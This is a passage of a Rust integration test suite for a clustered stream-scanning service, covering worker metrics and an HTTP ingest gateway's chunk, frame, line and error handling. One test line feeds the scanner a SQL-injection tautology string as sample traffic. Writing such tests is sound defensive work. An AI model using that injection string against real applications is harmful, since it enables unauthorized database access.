        total(&after, |s| s.takeovers),
        total(&after, |s| s.replayed),
        after.iter().map(|s| s.last_problem.clone()).collect::<Vec<_>>()
    );
}

/// The fewest partitions a worker joining `workers - 1` others ends up
/// with: each holds at most an even share rounded up, and it gets the
/// rest.
fn newcomer_share(workers: u32) -> u64 {
    u64::from(PARTITIONS - (workers - 1) * PARTITIONS.div_ceil(workers))
}

/// A worker's `/metrics` exposes every cluster metric, and every one the
/// dashboard and the alert rules use, with the deployment's partition
/// count.
fn check_worker_metrics(listen: &str) {
    let url = format!("http://{listen}/metrics");
    let exposed = common::exposed_metrics(&url);
    let used = common::dashboard_and_alert_metrics();
    let wanted = yaraflow::metrics::cluster::ALL
        .iter()
        .map(|(name, _, _)| name.to_string())
        .chain(
            used.into_iter()
                .filter(|n| n.starts_with("yaraflow_cluster_")),
        );
    let missing: Vec<String> = wanted.filter(|n| !exposed.contains(n)).collect();
    assert!(missing.is_empty(), "the worker does not expose {missing:?}");
    let text = ureq::get(&url).call().unwrap().into_string().unwrap();
    let partitions = text
        .lines()
        .find_map(|line| line.strip_prefix("yaraflow_cluster_partitions "))
        .unwrap_or_else(|| panic!("no partition count in:\n{text}"));
    assert_eq!(partitions.trim(), PARTITIONS.to_string());
}

/// Sends `signal` (`STOP`, `CONT`, `TERM`) to a child process.
fn signal(child: &std::process::Child, signal: &str) {
    let status = Command::new("kill")
        .arg(format!("-{signal}"))
        .arg(child.id().to_string())
        .status()
        .unwrap();
    assert!(status.success(), "kill -{signal}");
}

/// `serve --nats`: the HTTP API as an ingest gateway. Streams sent to it
/// (chunk bodies longer than one message, framed chunks of several
/// streams, lines) get the whole-buffer verdicts from the workers, once
/// each; routes only the workers could answer say 501; bad input gets its
/// error and loses no other stream; the token holds.
#[test]
fn the_http_gateway_feeds_the_cluster() {
    if !nats_installed() {
        return;
    }
    let _serial = one_at_a_time(2);
    let (nats, runtime, client, mut workers) = cluster_with_workers(2);
    let service = yaraflow::service::ServiceConfig {
        listen: ([127, 0, 0, 1], 0).into(),
        metrics_listen: None,
        token: Some("gateway-secret".into()),
        max_body_bytes: 2 << 20,
        ..Default::default()
    };
    let gateway = yaraflow::service::Gateway::start(&nats.url(1), config(), service).unwrap();
    let url = |path: &str| format!("http://{}{path}", gateway.api_addr());
    let post = |path: &str, body: &[u8]| {
        common::answer(
            ureq::post(&url(path))
                .set("Authorization", "Bearer gateway-secret")
                .send_bytes(body),
        )
    };
    let delete = |path: &str| {
        common::answer(
            ureq::delete(&url(path))
                .set("Authorization", "Bearer gateway-secret")
                .call(),
        )
    };

    let rules = rules();
    let mut rng = StdRng::seed_from_u64(31);
    let mut expected: HashMap<Uuid, common::Verdict> = HashMap::new();
    // A stream longer than a message, a plant across the cut between two.
    let long_id = Uuid::from_u128(rng.gen());
    let piece = config().max_message_bytes - 21;
    let mut long: Vec<u8> = (0..piece - 10)
        .map(|_| rng.gen_range(b' '..=b'~'))
        .collect();
    long.extend_from_slice(PLANTS[1]);
    long.extend((0..200_000).map(|_| rng.gen_range(b' '..=b'~')));
    let (status, body) = post(&format!("/v1/streams/{long_id}/chunks"), &long);
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["messages"], 2, "{body}");
    expected.insert(long_id, common::reference(&rules, &long));
    // Streams sent a chunk at a time, two of them in framed bodies.
    let streams: Vec<(Uuid, Vec<u8>)> = (0..40)
        .map(|_| (Uuid::from_u128(rng.gen()), stream_data(&mut rng)))
        .collect();
    for (id, data) in &streams {
        expected.insert(*id, common::reference(&rules, data));
        let half = data.len() / 2;
        let (status, body) = post(&format!("/v1/streams/{id}/chunks"), &data[..half]);
        assert_eq!(status, 200, "{body}");
    }
    for pair in streams.chunks(2) {
        let frames = pair.iter().map(|(id, data)| (*id, &data[data.len() / 2..]));
        let (status, body) = post("/v1/chunks", &yaraflow::service::framing::encode(frames));
        assert_eq!(status, 202, "{body}");
    }
    // Bad input: errors, and nothing else lost.
    let (status, body) = post("/v1/streams/not-a-uuid/chunks", b"x");
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (400, Some("bad_stream_id"))
    );
    let (status, body) = post(&format!("/v1/streams/{long_id}/lines"), b"no newline");
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (400, Some("unterminated_line"))
    );
    let (status, _) = post(
        &format!("/v1/streams/{long_id}/chunks"),
        &vec![b'x'; 3 << 20],
    );
    assert_eq!(status, 413);
    let (status, body) = post(&format!("/v1/streams/{long_id}/lines"), &[b'\n'; 70_000]);
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (413, Some("too_many_messages"))
    );
    let (status, body) = post("/v1/chunks", b"garbage that is no frame");
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (400, Some("bad_frame"))
    );
    let (status, body) = common::answer(
        ureq::get(&url(&format!("/v1/streams/{long_id}")))
            .set("Authorization", "Bearer gateway-secret")
            .call(),
    );
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (501, Some("not_in_gateway"))
    );
    let (status, _) =
        common::answer(ureq::post(&url(&format!("/v1/streams/{long_id}/chunks"))).send_bytes(b"x"));
    assert_eq!(status, 401, "no token");
    let (status, _) = common::answer(ureq::get(&url("/readyz")).call());
    assert_eq!(status, 200);
    // A line stream: each line scanned as its own block.
    let lines_id = Uuid::from_u128(rng.gen());
    let lines: Vec<Vec<u8>> = vec![
        b"GET /index.html".to_vec(),
        PLANTS[2].to_vec(),
        b"user=' or '1'='1 and more".to_vec(),
    ];
    let body: Vec<u8> = lines
        .iter()
        .flat_map(|l| [l.as_slice(), b"\n"].concat())
        .collect();
    let (status, answer_body) = post(&format!("/v1/streams/{lines_id}/lines"), &body);
    assert_eq!(
        (status, &answer_body["accepted_lines"]),
        (200, &serde_json::json!(3))
    );
    for id in expected.keys().copied().chain([lines_id]) {
        let (status, body) = delete(&format!("/v1/streams/{id}"));
        assert_eq!(status, 202, "{body}");
    }
    let verdicts = runtime.block_on(read_verdicts(&client, expected.len() + 1));
    check_every_input_stream_used(&runtime, &client);
    assert_eq!(verdicts.len(), expected.len() + 1, "one verdict per stream");
    let mut matched = 0;
    for verdict in &verdicts {
        assert!(verdict.get("error").is_none(), "{verdict}");
        let id: Uuid = verdict["stream"].as_str().unwrap().parse().unwrap();
        let want = match id == lines_id {
            true => common::reference_lines(&rules, &lines),
            false => expected[&id].clone(),
        };
        let got = common::printed(&rules, verdict);
        matched += usize::from(!got.is_empty());
        assert_eq!(got, want, "stream {id}");
    }
    eprintln!(
        "{} streams through the gateway, {matched} matching",
        verdicts.len()
    );
    assert!(
        matched > verdicts.len() / 2,
        "only {matched} streams matched"
    );
    gateway.stop().unwrap();
    for worker in &mut workers {
        worker.stop();
    }
}
